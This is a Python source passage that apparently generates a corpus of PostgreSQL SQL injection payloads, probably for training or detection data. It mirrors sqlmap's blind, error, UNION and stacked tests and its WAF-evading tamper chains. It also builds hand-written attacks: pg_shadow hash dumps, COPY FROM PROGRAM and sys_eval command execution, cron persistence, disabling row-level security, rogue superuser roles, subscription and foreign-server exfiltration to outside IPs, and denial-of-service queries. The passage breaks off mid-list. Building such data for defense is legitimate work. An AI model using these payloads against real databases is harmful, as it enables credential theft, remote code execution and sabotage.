    x = r.random()
    if x < 0.05:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES)), "--common-tables"
    if x < 0.09:
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(GUESS_COLUMNS), r.choice(sorted(DUMP))), "--common-columns"
    e, sw = enumeration(r, o)
    sw = (sw + " " + o.switch).strip()
    if x < 0.72:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 64, 36])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 40), r.choice(bisection(v))), sw
    if x < 0.88:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 3), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 30), r.randint(33, 122)), sw + " (validation)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced.
    Weighted to the tests make_eighteenth.py left out."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 3, 6, 9])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    if vector:
        INF, sw = inference(r, o)
        QRY, qsw = enumeration(r, o)
        tag, qtag = ":" + sw, ":" + (qsw + " " + o.switch).strip()
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2), "%d>%d" % (max(R1, R2) + 1, min(R1, R2))])
        QRY = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = qtag = ":detection"
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    GS = "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF)
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause", "generic", "cond", 2, "OR %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "OR NOT %s" % INF, False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", PG, "repl", 3, GS, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", PG, "order", 1, "," + GS, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (INF, R1), False),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL OR time-based blind (heavy query)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",%s" % CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, INF if vector else "%d=%d" % (R1, R1), D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, QRY, D2), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), False),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(%s,(%s),%s))" % (D1, QRY, D2), False),
    ]
    if r.random() < 0.03:
        out += [(TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "cond", 1, "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, SLEEP, rstr(r)), False),
                (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "Microsoft SQL Server", "cond", 1,
                 "AND %d IN (SELECT (CHAR(113)+CHAR(122)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))" % (R, R1, R1), False)]
    return [(f, t, d, p, w, pl, c, qtag if f in (EB, IQ) else tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL, the ones make_eighteenth.py sent least."""
    oid = r.randint(20000, 90000)
    cmd = r.choice(CMDS)
    sp = r.choice([chrs, q, q])
    tbl = "sqlmapfile%s" % r.choice(["", rword(r, 2)])
    return r.choice([
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (sp(r.choice(FILES)), oid)),
        ("--file-read (lo_get read back)", ";SELECT ENCODE(LO_GET(%d),%s)" % (oid, sp("hex"))),
        ("--file-read (table)", ";CREATE TABLE %s(data text);COPY %s(data) FROM %s" % (tbl, tbl, sp(r.choice(FILES)))),
        ("--file-write (lo_create)", ";SELECT lo_create(%d)" % oid),
        ("--file-write (pg_largeobject update)", ";UPDATE pg_largeobject SET data=(DECODE(%s,%s)) WHERE loid=%d AND pageno=0" % (sp(base64.b64encode(bytes(r.randrange(256) for _ in range(12))).decode()), sp("base64"), oid)),
        ("--os-cmd (output table create)", ";CREATE TABLE sqlmapoutput(data text)"),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY sqlmapoutput(data) FROM PROGRAM %s" % sp(cmd)),
        ("--os-shell (udf sys_eval)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libs%s.so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 4)),
        ("--os-cmd (sys_eval)", ";SELECT sys_eval(%s)" % sp(cmd)),
        ("--cleanup (tables)", ";DROP TABLE IF EXISTS sqlmapoutput;DROP TABLE IF EXISTS sqlmapfile")])


def sqlmap_union(r, vector):
    n, pos, filler, cols, kw, rng, where = union_request(r, 12, 2, 3, 0.5)
    m1, m2, m3 = chrs(delimiter(r)), chrs(delimiter(r)), chrs(delimiter(r))
    x = r.randrange(6)
    if x == 0:
        return "Generic UNION query (%s) - %s columns (ORDER BY probing, --union-cols)" % (filler, rng), "generic", "ORDER BY %d" % r.randint(1, 14), 1
    if x == 1 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns" % (filler, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user_mappings", ["srvname", "umoptions"]), ("pg_hba_file_rules", ["type", "auth_method"]),
                    ("pg_tables", ["schemaname", "tablename"]), ("pg_settings", ["name", "setting"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", " OFFSET %d LIMIT 1" % r.randint(0, 30)])
    return "Generic UNION query (%s) - %s columns (--dump %s)" % (filler, rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- %s" % rstr(r)] * 5 + ["--", "-- -", "--+", "-- %d" % r.randint(0, 99), "--%s" % rstr(r, 3), "-- ;", "/*"])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    return corpus_kit.sqlmap_slot_value(globals(), r, si, orig, place, where, payload, need_comment)


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES FOR CONCAT DECODE ENCODE""".split())


def tamper(r, name, s, typ):
    """Chains of tamper scripts the earlier corpora used least or not at all: greatest, least,
    symboliclogical (AND / OR as the decoded && / ||), 0eunion, misunion, concat2concatws, sp_password,
    informationschemacomment, commentbeforeparentheses, space2morecomment, lowercase and between, and the
    filter-undoing nonrecursivereplacement (the application strips the doubled keywords once, so the
    value reaches the statement as it was)."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "nonrecursivereplacement":
        return s
    if name == "greatest":
        m = re.search(r"(?i)(\b(AND|OR)\b\s+)([^>'\"]+?)\s*>\s*(\w+)", s)
        return s if not m else s[:m.start()] + "%sGREATEST(%s,%s+1)=%s" % (m.group(1), m.group(3), m.group(4), m.group(3)) + s[m.end():]
    if name == "least":
        m = re.search(r"(?i)(\b(AND|OR)\b\s+)([^>'\"]+?)\s*>\s*(\w+)", s)
        return s if not m else s[:m.start()] + "%sLEAST(%s,%s+1)=%s+1" % (m.group(1), m.group(4), m.group(3), m.group(4)) + s[m.end():]
    if name == "symboliclogical":
        return outside(lambda t, i, n: re.sub(r"(?i)\bAND\b", "&&", re.sub(r"(?i)\bOR\b", "||", t)))
    if name == "0eunion":
        return outside(lambda t, i, n: re.sub(r"(?i)(\d+)\s+(UNION )", r"\g<1>e0\g<2>", t))
    if name == "misunion":
        return outside(lambda t, i, n: re.sub(r"(?i)\s+(UNION )", r"-.1\g<1>", t))
    if name == "concat2concatws":
        return outside(lambda t, i, n: t.replace("CONCAT(", "CONCAT_WS(MID(CHAR(0),0,0),"))
    if name == "sp_password":
        return s + ("" if "-- " in s else "-- ") + "sp_password"
    if name == "informationschemacomment":
        return outside(lambda t, i, n: re.sub(r"(?i)(information_schema)\.", r"\1/**/.", t))
    if name == "commentbeforeparentheses":
        return outside(lambda t, i, n: re.sub(r"\b(\w+)\(", r"\1/**/(", t))
    if name == "space2morecomment":
        return outside(lambda t, i, n: t.replace(" ", "/**_**/"))
    if name == "lowercase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: m.group(0).lower() if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "between":
        def btw(t, i, n):
            t = re.sub(r"(?i)\s*>\s*(\d+)", r" NOT BETWEEN 0 AND \1", t)
            return re.sub(r"(?<![<>!:=])=(\d+)", r" BETWEEN \1 AND \1", t)
        return outside(btw)
    raise KeyError(name)


TAMPERS = ["greatest", "least,lowercase", "symboliclogical", "0eunion", "misunion,space2morecomment", "concat2concatws", "sp_password",
           "informationschemacomment,commentbeforeparentheses", "nonrecursivereplacement,greatest", "between,sp_password", "space2morecomment", "least"]

union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.6, takeover_share=0.25, tamper_share=0.13)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | union (a UNION tail) | stack (statements
# after ;) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | frame (a window frame bound
# replaced by an expression) | sub (an array subscript replaced) | jkey (a
# JSON key closed and the select list extended).  Cores named stored_* are
# values saved through one form and replayed by a later statement; they go
# only into the templates that replay stored values.
def secs(r):
    return r.choice([3, 5, 7, 9, 11, 16, 30])


DO_TAGS = ["$pl19$", "$DO$", "$λx$", "$b_19$", "$Ʃ$", "$fn_$", "$$", "$ü$", "$q1$"]
OPEN_TAGS = ["$k19$", "$h$", "$ŧ$", "$o_o$", "$$", "$x_1$", "$Q2$"]
# dollar tags an attacker tries when guessing how an application quotes its bodies
GUESSED_TAGS = ["$sql19$", "$$", "$body$", "$function$", "$job$", "$cron$", "$q$"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def hand_cores(r, fam):
    a, b = r.randint(2, 90), r.randint(91, 9999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(40000, 99999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    pc = plain(cmd)
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_to_regclass_catalog", "OR to_regclass('pg_catalog.pg_class') IS NOT NULL"), ("or_to_regrole_public", "OR to_regrole('%s') IS NOT NULL" % r.choice(["pg_monitor", "pg_read_all_data", "pg_signal_backend"])),
            ("or_current_setting_nonempty", "OR current_setting('%s') <> ''" % r.choice(["DateStyle", "TimeZone", "client_encoding"])), ("or_exists_table_settings", "OR EXISTS (TABLE pg_settings)"),
            ("or_jsonb_path_match", "OR jsonb_path_match('{\"%s\": %d}', '$.%s == %d')" % (w, a, w, a)), ("or_int4range_contains", "OR int4range(1, %d) @> %d" % (b, a)),
            ("or_xml_well_formed", "OR xml_is_well_formed('<%s/>')" % w), ("or_isfinite_now", "OR isfinite(now())"), ("or_uamp_escape_eq", "OR U&'\\0061' = 'a'"),
            ("or_ilike_any", "OR '%s' ILIKE ANY (ARRAY['%%'])" % w), ("or_between_symmetric", "OR %d BETWEEN SYMMETRIC %d AND 0" % (a, b)),
            ("or_null_not_distinct", "OR NULL IS NOT DISTINCT FROM NULL"), ("or_cardinality", "OR cardinality(ARRAY[%d]) = 1" % a), ("or_bool_and_sub", "OR (SELECT bool_and(true))"),
            ("or_greatest_eq", "OR greatest(%d, 0) = %d" % (a, a)), ("or_md5_self", "OR md5('%s') = md5('%s')" % (w, w)), ("or_point_same", "OR point(%d, 1) ~= point(%d, 1)" % (a, a)),
            ("or_pg_settings_case", "OR (SELECT CASE WHEN count(*) > 0 THEN true END FROM pg_settings)"), ("or_dollar_tag_eq", "OR $%s$%s$%s$ = '%s'" % (w2, w, w2, w)),
            ("or_comment_in_keyword_gap", "OR/**/%d/**/=/**/%d" % (a, a)), ("or_regexp_like", "OR regexp_like('%s', '^%s')" % (w, w[0])),
            ("stored_or_not_false", "OR NOT false")]] + [
            ("set_every_row", "assign", "{col} = {col} WHERE %d = %d" % (a, a), PG), ("set_rows_exists", "assign", "{col} = DEFAULT WHERE EXISTS (SELECT 1)", PG)]
    if fam == "union":
        n = r.randint(1, 7)
        pos = r.randrange(n)
        arms = [("hba_rules", "type||' '||coalesce(array_to_string(address::text[], ','), '')||' '||auth_method", " FROM pg_hba_file_rules"),
                ("user_mappings", "srvname||':'||array_to_string(umoptions, ',')", " FROM pg_user_mappings"), ("subscriptions", "subname||' '||subconninfo", " FROM pg_subscription"),
                ("ls_dir", "f", " FROM pg_ls_dir('.') f"), ("settings_changed", "name||'='||setting", " FROM pg_settings WHERE source <> 'default'"),
                ("shadow", "usename||':'||coalesce(passwd,'')", " FROM pg_shadow"), ("event_triggers", "evtname||' '||evtevent", " FROM pg_event_trigger"),
                ("loot_pair", "%s||':'||%s" % (u, p), " FROM %s" % t), ("largeobjects", "loid::text", " FROM pg_largeobject_metadata"),
                ("ssl_clients", "pid::text||' '||coalesce(client_dn,'')", " FROM pg_stat_ssl")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(5)
        out = [("returning_row_to_json", "returning", "RETURNING (SELECT row_to_json(z)::text FROM %s z LIMIT 1)" % t, PG),
               ("returning_string_agg", "returning", "RETURNING (SELECT string_agg(%s, ',') FROM %s)" % (p, t), PG),
               ("stored_union_secret", "union", "UNION ALL SELECT %s FROM %s" % (nulls(n, pos, "%s||'|'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_json_agg_" + name, "union", "UNION ALL SELECT %s" % nulls(n, pos, "(SELECT json_agg(v)::text FROM (SELECT %s AS v%s) z)" % (ex, frm)), PG)]
        if style == 1:
            return out + [("union_array_to_string_" + name, "union", "UNION ALL SELECT %s%s" % (nulls(n, pos, "array_to_string(array_agg(%s), ';')" % ex), frm), PG)]
        if style == 2:
            return out + [("union_xmlforest_" + name, "union", "UNION ALL SELECT %s" % nulls(n, pos, "(SELECT xmlagg(xmlforest(v))::text FROM (SELECT %s AS v%s) z)" % (ex, frm)), PG)]
        if style == 3:
            return out + [("union_cte_" + name, "union", "UNION ALL (WITH z AS (SELECT %s AS v%s) SELECT %s FROM z)" % (ex, frm, nulls(n, pos, "z.v")), PG)]
        kw = r.choice(["UNION SELECT", "UNION ALL SELECT", "UNION DISTINCT SELECT", "union all select", "UNION\tALL\tSELECT", "UNION/**/SELECT"])
        return out + [("union_arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("event_trigger_plant", "CREATE FUNCTION %s() RETURNS event_trigger LANGUAGE plpgsql AS $e$BEGIN EXECUTE 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'; END$e$; CREATE EVENT TRIGGER %s ON ddl_command_end EXECUTE FUNCTION %s()" % (nm, nm, nm)),
            ("rule_on_update_log", "CREATE RULE %s AS ON UPDATE TO %s DO ALSO INSERT INTO %s_log VALUES (NEW.*)" % (nm, t, nm)),
            ("disable_rls", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t), ("no_force_rls", "ALTER TABLE %s NO FORCE ROW LEVEL SECURITY" % t),
            ("row_security_off", "SET row_security = off; SELECT %s, %s FROM %s" % (u, p, t)), ("policy_allow_all", "CREATE POLICY %s ON %s FOR ALL USING (true) WITH CHECK (true)" % (nm, t)),
            ("publication_all_tables", "CREATE PUBLICATION %s FOR ALL TABLES" % nm),
            ("subscription_exfil", "CREATE SUBSCRIPTION %s CONNECTION 'host=%s port=5432 dbname=postgres user=repl password=x' PUBLICATION %s WITH (copy_data = true)" % (nm, ip, nm)),
            ("terminate_by_user", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '%s'" % role),
            ("advisory_lock_flood", "SELECT pg_advisory_lock(k) FROM generate_series(1, %d) k" % r.choice([100000, 500000])),
            ("alter_system_log_none", "ALTER SYSTEM SET log_statement = 'none'; SELECT pg_reload_conf()"),
            ("alter_system_archive_cmd", "ALTER SYSTEM SET archive_command = '%s'; SELECT pg_reload_conf()" % pc.replace("'", "")),
            ("alter_system_reset_all", "ALTER SYSTEM RESET ALL"), ("create_extension_dblink", "CREATE EXTENSION IF NOT EXISTS dblink"),
            ("create_extension_plpython", "CREATE EXTENSION IF NOT EXISTS plpython3u"),
            ("fdw_user_mapping", "CREATE EXTENSION IF NOT EXISTS postgres_fdw; CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s', dbname 'postgres'); CREATE USER MAPPING FOR PUBLIC SERVER %s OPTIONS (user 'postgres', password '%s')" % (nm, ip, nm, rword(r, 10))),
            ("dblink_exec_superuser", "SELECT dblink_exec('host=127.0.0.1 user=postgres dbname=postgres', 'ALTER ROLE %s SUPERUSER')" % nm),
            ("drop_owned_role", "DROP OWNED BY %s CASCADE" % role), ("grant_execute_program", "GRANT pg_execute_server_program TO %s" % nm),
            ("create_role_replication", "CREATE ROLE %s WITH LOGIN REPLICATION BYPASSRLS PASSWORD '%s'" % (nm, rword(r, 10))),
            ("stored_disable_rls", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t), ("stored_truncate", "TRUNCATE %s" % t)]] + [
            ("row_extra_values", "row", row_of("'%s'" % w), PG), ("row_subselect_secret", "row", lambda n: ", ".join(["(SELECT string_agg(%s, ',') FROM %s)" % (p, t)] + ["NULL"] * (n - 1)), PG),
            ("conflict_update_secret", "conflict", "ON CONFLICT DO NOTHING RETURNING (SELECT string_agg(%s, ',') FROM %s)" % (p, t), PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("ls_dir_count", "cond", "AND (SELECT count(*) FROM pg_ls_dir('.')) > %d" % a), ("ls_dir_missing_ok", "cond", "AND (SELECT count(*) FROM pg_ls_dir('/etc', true, false)) >= 0"),
            ("stat_file_size", "cond", "AND (pg_stat_file('%s', true)).size > %d" % (f, a)), ("read_binary_file_missing_ok", "cond", "AND pg_read_binary_file('%s', 0, 64, true) IS NOT NULL" % f),
            ("ls_dir_union", "union", "UNION ALL SELECT pg_ls_dir('%s')" % r.choice([".", "pg_wal", "/etc", "/var/run/secrets"])),
            ("lo_creat_write_chain", "stack", "SELECT lo_creat(-1); SELECT lo_put(%d, 0, convert_to('%s', 'UTF8')); SELECT lo_export(%d, '/tmp/%s.sh')" % (oid, sq("#!/bin/sh\n" + pc), oid, nm)),
            ("lo_import_get", "stack", "SELECT lo_import('%s', %d); SELECT convert_from(lo_get(%d, 0, 4096), 'UTF8')" % (f, oid, oid)),
            ("lo_open_loread", "stack", "SELECT lo_import('%s', %d); SELECT loread(lo_open(%d, 262144), 8192)" % (f, oid, oid)),
            ("dblink_exec_copy", "stack", "SELECT dblink_exec('host=%s user=x dbname=x', 'COPY (SELECT 1) TO PROGRAM ''%s''')" % (ip, sq(pc))),
            ("fdw_import_schema", "stack", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s'); IMPORT FOREIGN SCHEMA public FROM SERVER %s INTO public" % (nm, ip, nm)),
            ("copy_program_temp_table", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM '%s'; SELECT string_agg(l, chr(10)) FROM %s" % (nm, nm, pc, nm)),
            ("file_fdw_program", "stack", "CREATE EXTENSION IF NOT EXISTS file_fdw; CREATE SERVER %s FOREIGN DATA WRAPPER file_fdw; CREATE FOREIGN TABLE %s (l text) SERVER %s OPTIONS (program '%s')" % (nm, nm, nm, pc)),
            ("copy_to_file_cron", "stack", "COPY (SELECT '* * * * * %s') TO '/var/spool/cron/crontabs/postgres'" % sq(pc)),
            ("ls_logdir_union", "union", "UNION ALL SELECT name FROM pg_ls_logdir()"), ("ls_archive_status", "cond", "AND (SELECT count(*) FROM pg_ls_archive_statusdir()) >= 0"),
            ("read_binary_repl", "repl", "(SELECT octet_length(pg_read_binary_file('%s')))" % f), ("ls_dir_concat", "concat", "(SELECT string_agg(d, ',') FROM pg_ls_dir('.') d)"),
            ("assign_stat_file", "assign", "{col} = (pg_stat_file('%s')).size" % f), ("row_ls_dir", "row", row_of("(SELECT string_agg(d, ',') FROM pg_ls_dir('.') d)")),
            ("stored_copy_program_temp", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM '%s'" % (nm, nm, pc))]]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("sleep_for_interval", "cond", "AND pg_sleep_for('%d seconds') IS NULL" % s), ("sleep_until", "cond", "AND pg_sleep_until(now() + interval '%d seconds') IS NULL" % s),
            ("recursive_cte_depth", "cond", "AND (WITH RECURSIVE b(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM b WHERE n < %d) SELECT max(n) FROM b) > 0" % r.choice([8000000, 15000000])),
            ("regex_dos_nested", "cond", "AND '%s' ~ '(x+x+)+y'" % ("x" * r.choice([26, 30, 34]))), ("cross_join_burn", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) a, generate_series(1, %d) b) > 0" % (r.choice([3000, 5000]), r.choice([3000, 5000]))),
            ("settings_case_sleep", "cond", "AND (SELECT CASE WHEN setting = 'on' THEN pg_sleep(%d) END FROM pg_settings WHERE name = '%s') IS NULL" % (s, r.choice(["ssl", "fsync", "log_connections"]))),
            ("superuser_sleep", "cond", "AND (SELECT pg_sleep(%d) WHERE current_setting('is_superuser') = 'on') IS NULL" % s),
            ("advisory_held_wait", "cond", "AND pg_advisory_lock_shared(%d) IS NOT NULL" % b), ("probe_sleep_for", "cond", "AND (CASE WHEN %s THEN pg_sleep_for('%ds') END) IS NULL" % (pe, s)),
            ("sleep_values_lateral", "cond", "AND EXISTS (SELECT 1 FROM (VALUES (1)) v, LATERAL (SELECT pg_sleep(%d)) z)" % s),
            ("sleep_order_for", "order", "(SELECT pg_sleep_for('%d s')::text)" % s), ("sleep_repl_until", "repl", "(SELECT %d FROM pg_sleep_until(now() + interval '%ds'))" % (a, s)),
            ("sleep_concat_for", "concat", "(SELECT pg_sleep_for('%ds')::text)" % s), ("stack_advisory_dos", "stack", "SELECT pg_advisory_lock(%d); SELECT pg_sleep(%d)" % (b, s * 100)),
            ("stack_regex_burn", "stack", "SELECT regexp_matches(repeat('a', 40000), '(a*)*b')"), ("assign_sleep_for", "assign", "{col} = (SELECT {col} FROM pg_sleep_for('%d s'))" % s),
            ("interval_sleep_until", "iexpr", "(SELECT interval '1 second' FROM pg_sleep(%d))" % s), ("frame_sleep_for", "frame", "(SELECT 1 FROM pg_sleep_for('%ds'))" % s),
            ("stored_sleep_for", "cond", "AND pg_sleep_for('%ds') IS NULL" % s)]] + [("row_sleep_for", "row", row_of("(SELECT NULL FROM pg_sleep_for('%ds'))" % s), PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("or_" + pn, "cond", "OR " + pex, PG), ("loot_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [(n, "cond", c, PG) for n, c in [
                ("settings_case_ssl", "AND (SELECT CASE WHEN setting = 'on' THEN true ELSE false END FROM pg_settings WHERE name = 'ssl')"),
                ("data_directory_prefix", "AND current_setting('data_directory') LIKE '/var/lib/%%'"), ("to_regclass_table", "AND to_regclass('public.%s') IS NOT NULL" % t.split(".")[-1]),
                ("to_regrole_probe", "AND to_regrole('%s') IS NOT NULL" % role), ("table_privilege", "AND has_table_privilege('%s', 'SELECT')" % t),
                ("function_privilege_read_file", "AND has_function_privilege('pg_read_file(text)', 'EXECUTE')"),
                ("member_execute_program", "AND pg_has_role('pg_execute_server_program', 'MEMBER')"), ("rolreplication", "AND (SELECT rolreplication FROM pg_roles WHERE rolname = current_user)"),
                ("user_mappings_exist", "AND EXISTS (SELECT 1 FROM pg_user_mappings)"), ("wal_level_logical", "AND current_setting('wal_level') = 'logical'"),
                ("extension_available", "AND EXISTS (SELECT 1 FROM pg_available_extensions WHERE name = 'dblink')")]] + [
            ("assign_probe_case", "assign", "{col} = (CASE WHEN %s THEN {col} ELSE NULL END)" % pe, PG), ("row_probe_case", "row", row_of("(CASE WHEN %s THEN 0 ELSE 1 END)" % pe), PG),
            ("order_probe_case", "order", "(CASE WHEN %s THEN 1 ELSE 1/0 END)" % pe, PG), ("frame_probe_case", "frame", "(CASE WHEN %s THEN 0 ELSE 2 END)" % pe, PG),
            ("jkey_probe_case", "jkey", "(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
